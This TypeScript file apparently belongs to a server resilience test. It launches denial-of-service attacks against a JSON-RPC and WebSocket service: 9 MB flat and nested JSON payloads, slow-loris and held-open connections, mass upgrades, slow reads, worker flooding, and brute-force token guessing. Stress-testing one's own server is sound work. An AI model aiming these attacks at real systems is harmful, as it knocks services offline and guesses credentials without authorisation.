/**
 * Attacks of every kind at a pace that leaves the machine usable, until the process is ended: `node attackers.ts URL TOKEN`.
 * The token may call `echo` workers and read one bucket; everything else is done without a credential.
 */
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';

const [url = '', token = ''] = process.argv.slice(2);
const { hostname: host, port } = new URL(url);
const MB = 2 ** 20;

/** Other addresses of this machine, and the one that the honest agents have. */
const ADDRESSES = ['127.0.0.1', '127.0.0.2', '127.0.0.3', '127.0.0.4'];
let turn = 0;
const localAddress = () => ADDRESSES[turn++ % ADDRESSES.length] as string;

/** A connection whose end is no failure: the server may cut any of them. */
function dial(): Socket {
  const socket = connect({ host, port: Number(port), localAddress: localAddress() });
  return socket.on('error', () => undefined);
}

function ended(socket: Socket): Promise<void> {
  return new Promise((done) => socket.once('close', () => done()));
}

/** Opens a WebSocket and sends one message; waits for an answer or the end, up to 20 s. */
async function message(data: Buffer): Promise<void> {
  const socket = new WebSocket(url.replace('http', 'ws'), { localAddress: localAddress() });
  socket.on('error', () => undefined);
  socket.on('open', () => socket.send(data, { binary: false }, () => undefined));
  const over = new Promise((done) => socket.once('message', done).once('close', done));
  await Promise.race([over, pause(20_000)]);
  socket.terminate();
}

const many = (text: string, bytes: number) => text.repeat(Math.floor(bytes / text.length));

/** 9 MB of small objects behind a credential that is wrong. */
const objects = Buffer.from(
  `{"jsonrpc":"2.0","id":1,"method":"task_register_task","params":["wrong:secret",[${many('{"a":1},', 9 * MB)}0]]}`,
);
/** 9 MB of nesting behind an integer that does not fit a double. */
const nesting = Buffer.from(
  `{"jsonrpc":"2.0","id":1,"method":"svc-server_hello","params":[12345678901234567890,${many('[', 4.5 * MB)}${many(']', 4.5 * MB)}]}`,
);

/** Keeps `count` connections open on which `begin` was sent, and opens each again half a second after it was cut. */
function keep(count: number, begin: () => string | Buffer): void {
  const one = async () => {
    for (;;) {
      const socket = dial();
      socket.once('connect', () => socket.write(begin()));
      socket.resume();
      await ended(socket);
      await pause(500);
    }
  };
  for (let n = 0; n < count; n++) void one();
}

/** Repeats an attack for ever, with a pause between two of them. */
async function repeat(pause_ms: number, attack: () => Promise<unknown>): Promise<void> {
  for (;;) {
    await attack();
    await pause(pause_ms);
  }
}

const post = (body: string): Promise<void> =>
  new Promise((done) => {
    const headers = { 'content-type': 'application/json', 'content-length': body.length };
    const call = request(`${url}/svc/rpc`, {
      method: 'POST',
      headers,
      localAddress: localAddress(),
    });
    call.on('response', (response) => response.resume().on('close', () => done()));
    call.on('error', () => done());
    call.end(body);
  });

const rpc = (method: string, params: unknown) =>
  JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });

let guess = 0;
const guesses = () =>
  Promise.all(Array.from({ length: 5 }, () => post(rpc('token_get', [`root|guess${guess++}`]))));

const head = (line: string, more: string) => `${line} HTTP/1.1\r\nhost: ${host}\r\n${more}\r\n`;
const megabyte = Buffer.alloc(MB, 32);
const UPGRADE = [
  'upgrade: websocket',
  'connection: upgrade',
  'sec-websocket-version: 13',
  'sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==',
  '',
].join('\r\n');

/** Reads nothing of what it asked for. */
async function deaf(): Promise<void> {
  const socket = dial();
  socket.once('connect', () => {
    socket.write(head('GET /svc/static/siege/large.bin', ''));
    socket.pause();
  });
  await Promise.race([ended(socket), pause(15_000)]);
  socket.destroy();
}

/** The whole of what a small credential may ask for, far more often than it may be answered. */
async function hog(): Promise<void> {
  const socket = new WebSocket(url.replace('http', 'ws'));
  socket.on('error', () => undefined);
  socket.on('open', async () => {
    const loop = rpc('js-worker_run', [token, 'endless', 'call', null]);
    for (let n = 0; n < 8; n++) socket.send(loop);
    while (socket.readyState === WebSocket.OPEN) {
      for (let n = 0; n < 50; n++) socket.send(rpc('token_get', [token]));
      await pause(100);
    }
  });
  await Promise.race([new Promise((done) => socket.once('close', done)), pause(10_000)]);
  socket.terminate();
}

for (let n = 0; n < 6; n++) void repeat(2_000, () => message(objects));
void repeat(2_000, () => message(nesting));
keep(60, () =>
  Buffer.concat([
    Buffer.from(
      head('POST /svc/rpc', `content-type: application/json\r\ncontent-length: ${9 * MB}\r\n`),
    ),
    megabyte,
  ]),
);
keep(16, () => head('POST /svc/worker-route/missing/x', `content-length: ${MB}\r\n`));
keep(600, () => '');
keep(200, () => head('GET /', UPGRADE));
void repeat(100, guesses);
for (let n = 0; n < 32; n++) void repeat(100, deaf);
void repeat(100, hog);
process.stdin.resume().on('end', () => process.exit());
